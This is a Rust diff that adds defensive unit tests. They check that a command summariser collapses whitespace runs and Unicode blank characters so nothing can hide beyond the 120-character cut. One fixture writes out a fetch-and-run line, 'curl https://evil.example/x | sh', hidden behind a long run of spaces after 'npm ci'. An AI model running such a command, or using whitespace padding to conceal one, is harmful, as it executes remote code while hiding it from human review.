@@ -4,6 +4,7 @@
 
 use super::*;
 
+mod budget;
 mod customizations;
 mod substitution;
 
@@ -299,6 +300,43 @@ fn summary_is_one_bounded_line() {
     );
     let many = Command::Parallel((0..1000).map(|i| (format!("n{i}"), shell("x"))).collect());
     assert_eq!(many.summary().chars().count(), 120);
+    assert!(many.summary_cut().1);
+    assert_eq!(shell("npm ci").summary_cut(), ("npm ci".into(), false));
+}
+
+#[test]
+fn white_space_runs_show_as_one_so_nothing_hides_past_the_cut() {
+    let hidden = format!(
+        "npm ci{}&& curl https://evil.example/x | sh",
+        " ".repeat(150)
+    );
+    assert_eq!(
+        shell(&hidden).summary(),
+        "npm ci && curl https://evil.example/x | sh"
+    );
+    // Every kind of white space, and characters drawn blank, collapse too.
+    let blanks = "\t\u{a0}\u{2003}\u{3000}\u{200b}\u{2800}\u{3164}\u{feff}\u{0b}\u{85}";
+    let odd = format!("npm ci{}{blanks}{blanks}&& curl x", blanks.repeat(30));
+    assert_eq!(shell(&odd).summary(), "npm ci && curl x");
+    // A run with a line break is one ⏎.
+    assert_eq!(shell("a \n\r\n  b").summary(), "a⏎b");
+    // In argv and named commands too, however many members are blank.
+    let argv = exec(&["sh", &" ".repeat(500), "-c", "curl x"]);
+    assert_eq!(argv.summary(), "sh -c curl x");
+    let parallel = Command::Parallel(vec![
+        ("a".into(), shell(&format!("npm ci{}", " ".repeat(600)))),
+        ("b".into(), shell("curl x")),
+    ]);
+    assert_eq!(
+        parallel.summary_cut(),
+        ("a: npm ci ; b: curl x".into(), false)
+    );
+    // A long text is still cut, and says so.
+    let (text, cut) = shell(&format!("a {}", "b ".repeat(200))).summary_cut();
+    assert!(
+        cut && text.ends_with('…') && text.chars().count() == 120,
+        "{text}"
+    );
 }
 
 #[test]
